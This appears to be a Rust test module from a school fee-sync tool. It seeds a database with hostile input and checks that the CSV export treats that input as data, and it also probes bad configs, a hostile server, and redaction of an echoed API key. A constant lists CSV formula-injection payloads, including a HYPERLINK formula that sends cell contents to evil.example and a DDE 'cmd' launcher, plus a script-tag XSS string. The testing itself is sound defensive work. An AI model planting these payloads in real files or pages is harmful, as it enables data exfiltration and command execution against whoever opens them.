//! Bad input in the campaign. Per scenario: hostile text in Genesis (HTML,
//! CSV formulas, control characters) and absurd fee amounts, checked to
//! reach the export as data (control characters dropped, formulas as typed:
//! it is a machine feed) and to be named by the nightly. Once per campaign:
//! config files with unknown keys or bad values, a non-loopback `http://`
//! Community Pass URL, and the hostile-server corpus of transaction pages
//! (`tests/common/hostile.rs`) run through the real binary.

use std::path::Path;
use std::sync::Mutex;

use diesel::connection::SimpleConnection;
use rand::Rng;
use rand_chacha::ChaCha8Rng;

use cpsync::db::{self, DatabaseUrl, DbConnection, OpenMode};
use cpsync::secret::Secret;
use cpsync::seed::{self, SeedOptions};

use crate::engine::{tail, Engine};
use crate::tally::{ScenarioResult, Tally};
use crate::world::{write_private, World};

#[path = "../../tests/common/hostile.rs"]
mod server;

/// Text a district's staff (or an attacker with SIS access) can type.
pub const HOSTILE_NAMES: [&str; 5] = [
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "@IMPORTXML(\"http://evil.example\")",
    "<script>alert('x')</script>",
    "-2+3 \u{7}\u{1b}[31m tab\there",
];
/// Ids of the fees with absurd amounts a scenario adds.
const ABSURD_FEE_IDS: [i64; 2] = [8_900_001, 8_900_002];

/// Writes hostile names and descriptions and absurd amounts into Genesis.
pub fn genesis_rows(
    conn: &mut DbConnection,
    world: &World,
    rng: &mut ChaCha8Rng,
    result: &mut ScenarioResult,
) -> anyhow::Result<()> {
    let name = |i: usize| HOSTILE_NAMES[i % HOSTILE_NAMES.len()].replace('\'', "''");
    let pick = rng.gen_range(0..HOSTILE_NAMES.len());
    conn.batch_execute(&format!(
        "UPDATE students SET first_name = '{}' WHERE id = (SELECT MIN(id) FROM students);
         UPDATE guardians SET last_name = '{}' WHERE id = (SELECT MIN(id) FROM guardians);
         UPDATE guardians SET email = '{}' WHERE id = (SELECT MAX(id) FROM guardians);
         UPDATE student_fees SET description = '{}' WHERE id = (SELECT MIN(id) FROM student_fees);",
        name(pick),
        name(pick + 1),
        name(pick + 2),
        name(pick + 3),
    ))?;
    // Negative amounts are refused by the schema's CHECK; these are beyond
    // any real fee (`Money` caps amounts) and must be named, not sent.
    let amounts = [9_000_000_000_000_000_i64, i64::MAX];
    for (id, cents) in ABSURD_FEE_IDS.iter().zip(amounts) {
        conn.batch_execute(&format!(
            "INSERT INTO student_fees (id, student_id, category_code, school_code, description, amount_cents, \
             fee_date, due_date, status, created_at, modified_at) \
             SELECT {id}, student_id, category_code, school_code, 'Absurd amount', {cents}, \
             '2026-11-22', NULL, 'open', '2026-11-22 09:00:00', '2026-11-22 09:00:00' \
             FROM student_fees WHERE id = (SELECT MIN(id) FROM student_fees)"
        ))?;
    }
    // Three names reach the export; the description goes to Community Pass as data.
    result.bad_inputs_tried += 3 + ABSURD_FEE_IDS.len() as u64;
    let _ = world;
    Ok(())
}

/// After the finish: every hostile name reached the export as data (a
/// machine feed: formulas as they are, control characters dropped), and
/// the nightly named each absurd fee as a rejected row.
pub fn check_handled(
    world: &World,
    final_nightly: &serde_json::Value,
    result: &mut ScenarioResult,
) -> anyhow::Result<()> {
    let rejected = final_nightly["rejected_rows"].to_string();
    for id in ABSURD_FEE_IDS {
        if rejected.contains(&format!("student_fees {id}")) {
            result.bad_inputs_handled += 1;
        } else {
            result.violations.push(format!(
                "the nightly did not name absurd fee {id}: {rejected}"
            ));
        }
    }
    let folder = world.dir.join("export-final");
    let ended = world
        .engine
        .run(&["export", "--to", &folder.display().to_string()])?;
    anyhow::ensure!(ended.succeeded(), "export failed: {}", tail(&ended.stderr));
    let mut text = String::new();
    for entry in walk_files(&folder)? {
        text.push_str(&std::fs::read_to_string(entry)?);
    }
    result.bad_inputs_handled += cells_as_data(&text, result);
    Ok(())
}

fn walk_files(dir: &Path) -> anyhow::Result<Vec<std::path::PathBuf>> {
    let mut files = Vec::new();
    for entry in std::fs::read_dir(dir)? {
        let path = entry?.path();
        if path.is_dir() {
            files.extend(walk_files(&path)?);
        } else {
            files.push(path);
        }
    }
    Ok(files)
}

/// Checks no CSV cell holds control characters (other than tab and line
/// breaks), and counts the hostile names that reached the export handled:
/// exactly as typed, less those control characters (the OneRoster feed is
/// read by machines: no spreadsheet `'` in front of a formula).
fn cells_as_data(text: &str, result: &mut ScenarioResult) -> u64 {
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_reader(text.as_bytes());
    let mut handled = std::collections::BTreeSet::new();
    for record in reader.records().flatten() {
        for cell in record.iter() {
            if cell
                .chars()
                .any(|c| c.is_control() && !matches!(c, '\t' | '\r' | '\n'))
            {
                result
                    .violations
                    .push(format!("an export cell holds control characters: {cell:?}"));
            }
            for (index, hostile) in HOSTILE_NAMES.iter().enumerate() {
                let clean: String = hostile
                    .chars()
                    .filter(|c| !c.is_control() || matches!(c, '\t' | '\r' | '\n'))
                    .collect();
                if cell == clean {
                    handled.insert(index);
                }
            }
        }
    }
    handled.len() as u64
}

/// The campaign's one-off probes; violations go into the tally.
pub fn campaign_probes(bin: &Path, work: &Path, tally: &Mutex<Tally>) -> anyhow::Result<()> {
    let dir = work.join("probes");
    std::fs::create_dir_all(dir.join("logs"))?;
    let url = format!("sqlite://{}", dir.join("probe.db").display());
    let mut conn = db::connect(&DatabaseUrl::parse(&url)?, OpenMode::CreateIfMissing)?;
    db::migrate::run_pending(&mut conn)?;
    seed::store(
        &mut conn,
        &seed::generate(SeedOptions {
            students: 5,
            seed: 3,
        }),
    )?;
    let key = Secret::new("sk_probe_5b0e1d7c9a");
    // The key is read from CPSYNC_API_KEY by each probe; setup recorded its fingerprint.
    cpsync::db::settings::record_api_key(&mut conn, &key, "probe", chrono::Utc::now().naive_utc())?;
    let (fee, student): (i64, i64) = {
        use cpsync::db::schema::student_fees::dsl::*;
        use diesel::prelude::*;
        student_fees
            .select((id, student_id))
            .order(id)
            .first(&mut conn)?
    };
    let mut outcomes = config_probes(bin, &dir, &url)?;
    outcomes.push(loopback_probe(bin, &dir, &url, key.expose())?);
    outcomes.extend(server_probes(bin, &dir, &url, fee, student, key.expose())?);
    outcomes.push(echo_probe(bin, &dir, &url, key.expose())?);
    let mut tally = tally.lock().expect("tally lock");
    for (name, problem) in outcomes {
        tally.bad_inputs_tried += 1;
        match problem {
            None => tally.bad_inputs_handled += 1,
            Some(problem) => tally.violation(format!("{name}: {problem}")),
        }
    }
    Ok(())
}

type Probe = (String, Option<String>);

fn expect_failure(ended: &crate::engine::Ended, needle: &str) -> Option<String> {
    if let Some(crash) = ended.crashed(false) {
        return Some(crash);
    }
    if ended.code != Some(1) || !ended.stderr.contains(needle) {
        return Some(format!(
            "expected exit 1 naming {needle:?}, got {:?}: {}",
            ended.code,
            tail(&ended.stderr)
        ));
    }
    None
}

fn config_probes(bin: &Path, dir: &Path, url: &str) -> anyhow::Result<Vec<Probe>> {
    let cases = [
        (
            "config with an unknown key",
            "[community_pass]\nbase_url = \"https://x.example\"\nretry = 3\n",
            "retry",
        ),
        (
            "config with a zero timeout",
            "[community_pass]\nbase_url = \"https://x.example\"\nrequest_timeout_secs = 0\n",
            "timeouts",
        ),
        (
            "config with a bad URL scheme",
            "[community_pass]\nbase_url = \"ftp://x.example\"\n",
            "community_pass.base_url",
        ),
        (
            "config that is not TOML",
            "[community_pass\nbase_url = ",
            "invalid",
        ),
        (
            "config with a wrong type",
            "[smtp]\nhost = 'h'\nport = 'twenty-five'\ntls = 'none'\nfrom = 'a@b'\nto = ['c@d']\n",
            "port",
        ),
    ];
    let mut probes = Vec::new();
    for (index, (name, text, needle)) in cases.into_iter().enumerate() {
        let path = dir.join(format!("bad-{index}.toml"));
        write_private(&path, text)?;
        let engine = Engine::new(
            bin,
            vec![
                "--config".into(),
                path.display().to_string(),
                "--database-url".into(),
                url.into(),
            ],
            Vec::new(),
            log_dir(dir, &format!("config-{index}"))?,
            dir,
        );
        let ended = engine.run(&["runs"])?;
        probes.push((name.to_string(), expect_failure(&ended, needle)));
    }
    Ok(probes)
}

/// The environment handing the probes' API key to the engine.
fn key_env(key: &str) -> Vec<(String, String)> {
    vec![(
        cpsync::config::DEFAULT_API_KEY_ENV.to_string(),
        key.to_string(),
    )]
}

fn loopback_probe(bin: &Path, dir: &Path, url: &str, key: &str) -> anyhow::Result<Probe> {
    let engine = Engine::new(
        bin,
        vec![
            "--database-url".into(),
            url.into(),
            "--cp-url".into(),
            "http://192.0.2.10:8080".into(),
        ],
        key_env(key),
        log_dir(dir, "loopback")?,
        dir,
    );
    let ended = engine.run(&["get-payments"])?;
    Ok((
        "non-loopback http:// Community Pass URL".to_string(),
        expect_failure(&ended, "loopback"),
    ))
}

/// Each corpus case against the binary: the per-record ones must park the
/// bad record and post the good ones; the body-level ones must fail cleanly.
fn server_probes(
    bin: &Path,
    dir: &Path,
    url: &str,
    fee: i64,
    student: i64,
    key: &str,
) -> anyhow::Result<Vec<Probe>> {
    let mut probes = Vec::new();
    for (index, case) in server::corpus(fee, 987_654_321).into_iter().enumerate() {
        let answer = server::answer_for(&case, fee);
        let hostile = server::HostileServer::start(Box::new(move |_| answer.clone()));
        let engine = Engine::new(
            bin,
            vec![
                "--database-url".into(),
                url.into(),
                "--cp-url".into(),
                hostile.base_url.clone(),
            ],
            key_env(key),
            log_dir(dir, &format!("server-{index}"))?,
            dir,
        );
        let ended = engine.run(&["get-payments", "--student", &student.to_string(), "--json"])?;
        let problem = match case.expect {
            server::Expect::Fails(needle) => expect_failure(&ended, needle),
            server::Expect::Parks(needle) => expect_parked(&ended, needle),
        };
        probes.push((format!("hostile server: {}", case.name), problem));
    }
    Ok(probes)
}

/// A server that echoes the API key back in its error: the engine's
/// message must show it redacted.
fn echo_probe(bin: &Path, dir: &Path, url: &str, key: &str) -> anyhow::Result<Probe> {
    let body = format!("{{\"code\":\"unauthorized\",\"message\":\"unknown key {key}\"}}");
    let answer = server::http(401, body.as_bytes());
    let hostile = server::HostileServer::start(Box::new(move |_| answer.clone()));
    let engine = Engine::new(
        bin,
        vec![
            "--database-url".into(),
            url.into(),
            "--cp-url".into(),
            hostile.base_url.clone(),
        ],
        key_env(key),
        log_dir(dir, "echo")?,
        dir,
    );
    let ended = engine.run(&["get-payments"])?;
    let mut problem = expect_failure(&ended, "[REDACTED]");
    if ended.stderr.contains(key) || ended.stdout.contains(key) {
        problem = Some("the API key echoed by the server reached the output".to_string());
    }
    Ok(("a server echoing the API key".to_string(), problem))
}

fn log_dir(dir: &Path, name: &str) -> anyhow::Result<std::path::PathBuf> {
    let path = dir.join("logs").join(name);
    std::fs::create_dir_all(&path)?;
    Ok(path)
}

fn expect_parked(ended: &crate::engine::Ended, needle: &str) -> Option<String> {
    if let Some(crash) = ended.crashed(false) {
        return Some(crash);
    }
    if !ended.succeeded() {
        return Some(format!(
            "the run did not go on: exit {:?}: {}",
            ended.code,
            tail(&ended.stderr)
        ));
    }
    let summary: serde_json::Value = serde_json::from_str(&ended.stdout).unwrap_or_default();
    let listed = summary.to_string();
    if !listed.contains(needle) {
        return Some(format!(
            "the bad record is not named ({needle:?}): {listed}"
        ));
    }
    None
}
